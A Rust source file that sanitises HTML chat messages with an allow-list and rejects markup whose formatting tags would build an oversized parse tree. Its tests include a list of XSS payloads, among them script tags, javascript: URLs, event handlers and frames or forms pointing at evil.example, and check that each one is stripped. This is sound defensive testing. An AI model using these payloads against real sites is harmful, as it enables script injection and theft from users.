//! What HTML messages may contain. They are sanitised on write, as the hosted service does, so
//! that no client that shows them as they are is handed a script.
//!
//! The list lets through what the React UI library and its rich text editor write: formatting,
//! lists, tables, links, mentions (`<msft-mention id displayText>`) and inline images (`<img id
//! itemscope …>`). Elements that are not on it are removed and their text kept; scripts and
//! styles go with their text. docs/behaviour.md shows the list to users.

use std::collections::HashSet;
use std::sync::LazyLock;

use ammonia::{Builder, UrlRelative};

use crate::error::{Error, Result};

/// Elements beyond the library's own list, which has the usual ones of text, lists, tables and
/// images.
const ELEMENTS_ADDED: [&str; 1] = ["msft-mention"];

/// Attributes by element. HTML attribute names have no letter case: `displayText` comes out in
/// small letters, and every parser of HTML reads it the same.
const ATTRIBUTES_ADDED: [(&str, &[&str]); 5] = [
    ("msft-mention", &["id", "displaytext"]),
    ("img", &["id", "itemscope", "itemtype", "itemid"]),
    ("a", &["target"]),
    ("table", &["border", "cellpadding", "cellspacing"]),
    ("li", &["value"]),
];

/// Style properties that change how text looks and can neither load nor cover anything.
const STYLES: [&str; 30] = [
    "background-color",
    "border",
    "border-bottom",
    "border-collapse",
    "border-color",
    "border-left",
    "border-right",
    "border-spacing",
    "border-style",
    "border-top",
    "border-width",
    "color",
    "direction",
    "font-family",
    "font-size",
    "font-style",
    "font-weight",
    "height",
    "line-height",
    "list-style-type",
    "margin-bottom",
    "margin-left",
    "margin-right",
    "margin-top",
    "text-align",
    "text-decoration",
    "text-indent",
    "vertical-align",
    "white-space",
    "width",
];

/// Where links and images may lead.
const SCHEMES: [&str; 4] = ["http", "https", "mailto", "tel"];

static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::default();
    builder
        .add_tags(ELEMENTS_ADDED)
        .add_generic_attributes(["style", "dir"])
        .filter_style_properties(HashSet::from(STYLES))
        .url_schemes(HashSet::from(SCHEMES))
        // Inline images are sent with an empty `src`; what is relative leads to the viewer's own
        // page.
        .url_relative(UrlRelative::PassThrough);
    for (element, attributes) in ATTRIBUTES_ADDED {
        builder.add_tag_attributes(element, attributes);
    }
    builder
});

/// Formatting elements: a parser opens those left open anew in each block that follows.
const FORMATTING: [&str; 14] = [
    "a", "b", "big", "code", "em", "font", "i", "nobr", "s", "small", "strike", "strong", "tt", "u",
];

/// How many elements a parser may have to make by itself for formatting that is left open. Each
/// takes some 250 bytes; a long message with hundreds of formatted words is far below.
const REOPENED_ELEMENTS_MAX: usize = 100_000;

/// Refuses HTML that would become a tree out of all proportion to its length.
pub(super) fn check_nesting(html: &str) -> Result<()> {
    let (mut formatting, mut elements) = (0_usize, 0_usize);
    for tag in html.split('<').skip(1) {
        let end = tag
            .find(|c: char| !c.is_ascii_alphanumeric())
            .unwrap_or(tag.len());
        let name = &tag[..end];
        elements += usize::from(!name.is_empty());
        formatting += usize::from(
            FORMATTING
                .iter()
                .any(|known| known.eq_ignore_ascii_case(name)),
        );
    }
    if formatting.saturating_mul(elements) > REOPENED_ELEMENTS_MAX {
        return Err(Error::invalid(
            "content",
            "The HTML has too many formatting elements.",
        ));
    }
    Ok(())
}

/// The HTML without what is not on the list. What was sanitised once stays as it is.
pub(super) fn sanitise(html: &str) -> String {
    SANITISER.clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use super::{check_nesting, sanitise};

    #[test]
    fn what_the_ui_library_writes_goes_through() {
        for html in [
            r#"Hello <msft-mention id="8:acs:a_b" displaytext="Ada">Ada</msft-mention>!"#,
            r#"<img alt="image" src="" itemscope="png" width="166.5" height="250" id="0-eus-d1" style="vertical-align:bottom">"#,
            "<p><b>b</b> <i>i</i> <u>u</u> <s>s</s> <strong>st</strong> <em>em</em></p>",
            "<div>line<br>break</div><blockquote>q</blockquote><pre><code>c</code></pre>",
            "<ul><li>one</li></ul><ol><li>two</li></ol>",
            r#"<span style="color:rgb(255, 0, 0);font-size:14px">red</span>"#,
            "<table><tbody><tr><td>cell</td></tr></tbody></table>",
            "<h1>a</h1><h2>b</h2><h3>c</h3>",
            "1 &lt; 2 &amp; 3",
        ] {
            assert_eq!(sanitise(html), html);
        }
        let link = r#"<a href="https://example.com/?a=1" target="_blank">x</a>"#;
        let kept = sanitise(link);
        assert!(
            kept.contains(r#"href="https://example.com/?a=1""#),
            "{kept}"
        );
        assert!(kept.contains(r#"rel="noopener noreferrer""#), "{kept}");
    }

    /// Ways to run a script or to fetch something, each of which must leave none of its marks.
    const ATTACKS: [&str; 32] = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=\"jav&#x09;ascript:alert(1)\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<svg><script>alert(1)</script></svg>",
        "<svg onload=alert(1)>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<iframe src=\"https://evil.example\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"https://evil.example\"><input name=p><button>x</button></form>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<base href=\"javascript:alert(1)//\">",
        "<style>@import 'https://evil.example'; * { background: url(javascript:alert(1)) }</style>",
        "<div style=\"background-image: url(javascript:alert(1))\">x</div>",
        "<div style=\"width: expression(alert(1))\" onclick=alert(1)>x</div>",
        "<div style=\"position:fixed;top:0;left:0;z-index:9999\" onmouseover=alert(1)>x</div>",
        "<msft-mention id=\"x\" onclick=\"alert(1)\">x</msft-mention>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<details open ontoggle=alert(1)>x</details>",
    ];

    #[test]
    fn attacks_are_taken_apart() {
        for attack in ATTACKS {
            let clean = sanitise(attack);
            // Text that was escaped does no harm; only what is still markup counts.
            let markup: String = clean
                .split('<')
                .skip(1)
                .filter_map(|rest| rest.split('>').next())
                .collect();
            let markup = markup.to_ascii_lowercase();
            for mark in [
                "script", "onerror", "onload", "onclick", "onmouse", "ontoggle", "svg", "math",
                "iframe", "object", "embed", "form", "meta", "link", "base", "data:", "url(",
                "position", "import",
            ] {
                assert!(!markup.contains(mark), "{attack} became {clean}");
            }
            assert_eq!(sanitise(&clean), clean, "once is enough");
        }
    }

    #[test]
    fn html_that_would_explode_is_refused_and_rich_text_is_not() {
        let open: Vec<String> = (0..2300).map(|n| format!("<b a{n}>")).collect();
        let open = open.concat();
        assert!(check_nesting(&format!("<p>{open}{}", "<p>x".repeat(3500))).is_err());
        assert!(check_nesting(&"<b><p>x".repeat(1000)).is_err());
        assert!(check_nesting(&"<td>cell</td>".repeat(2000)).is_ok());
        assert!(check_nesting(&"<p>a <b>bold</b> and <i>slanted</i> word".repeat(100)).is_ok());
    }

    proptest::proptest! {
        #[test]
        fn sanitising_again_changes_nothing(html in "[<>a-c/ =\"'&;!-]{0,60}") {
            let clean = sanitise(&html);
            proptest::prop_assert_eq!(sanitise(&clean), clean);
        }
    }
}
